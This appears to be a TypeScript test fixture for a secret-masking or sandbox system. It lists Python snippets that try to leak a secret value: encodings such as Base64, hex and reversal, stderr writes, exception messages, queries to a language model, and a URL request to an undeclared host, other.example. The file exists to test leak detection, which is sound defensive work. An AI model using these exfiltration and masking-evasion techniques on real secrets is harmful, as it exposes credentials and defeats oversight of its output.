import { secret } from './leaks.ts'

/** The start of a Python script that has the secret in its own code. */
export const knownInPython = `
import base64, json, sys, urllib.parse, urllib.request
value = ''.join(map(chr, [${[...secret].map((sign) => sign.charCodeAt(0)).join(', ')}]))
`

type Way = readonly [name: string, code: string]

/** The forms in which a Python script prints `value`. Only the masking of its text sees a difference. */
export const pythonForms: readonly Way[] = [
  ['prints it in Base64', 'print(base64.b64encode(value.encode()).decode())'],
  ['prints it in Base64 after one letter', 'print(base64.b64encode(b"a" + value.encode()).decode())'],
  ['prints it in URL-safe Base64', 'print(base64.urlsafe_b64encode(b"ab" + value.encode()).decode())'],
  ['prints it in hex', 'print(value.encode().hex())'],
  ['prints it in upper-case hex', 'print(value.encode().hex().upper())'],
  ['prints it percent-encoded', 'print(urllib.parse.quote(value, safe=""))'],
  ['prints it as JSON', 'print(json.dumps(json.dumps({"a": value})))'],
  ['prints it reversed', 'print(value[::-1])'],
  ['prints it as UTF-16 in Base64', 'print(base64.b64encode(value.encode("utf-16-le")).decode())'],
]

/** The ways in which a Python script tries to leak `value`, by name. */
export const pythonWays: readonly Way[] = [
  ['prints it', 'print(value)'],
  ['prints it letter by letter', 'for letter in value:\n    print(letter)'],
  ['prints its letters without line ends', 'for letter in value:\n    print(letter, end="", flush=True)'],
  [
    'writes it to stderr in pieces',
    'for at in range(0, len(value), 5):\n    sys.stderr.write(value[at:at + 5])\n    sys.stderr.flush()',
  ],
  [
    'prints its letters to stdout and stderr in turns',
    'for at, letter in enumerate(value):\n    print(letter, file=sys.stderr if at % 2 else sys.stdout)',
  ],
  ['prints its representation', 'print(repr({"a": [value]}))'],
  ['returns it', 'set_result(value)'],
  ['returns it as a key', 'set_result({value: [value]})'],
  ['raises it', 'raise ValueError(value)'],
  ['raises it as a cause', 'raise RuntimeError("x") from ValueError(value)'],
  ['raises it as a note', 'error = ValueError("x")\nerror.add_note(value)\nraise error'],
  ['raises an error named after it', 'raise type("E" + value.encode().hex(), (Exception,), {})("x")'],
  ['exits with it as the message', 'sys.exit(value)'],
  ['asserts it', 'assert value == "", value'],
  ['reads a setting named after it', 'settings.get(value)'],
  ['asks the model about it', 'set_result(llm.complete("What of " + value + "?"))'],
  ['asks the model about it in Base64', 'llm.complete(base64.b64encode(value.encode()).decode())'],
  ['prints it in two pieces around a pause', 'print(value[:14])\nllm.complete("?")\nprint(value[14:])'],
  [
    'sends it to an undeclared host',
    'urllib.request.urlopen("https://other.example/?q=" + urllib.parse.quote(value, safe=""))',
  ],
]
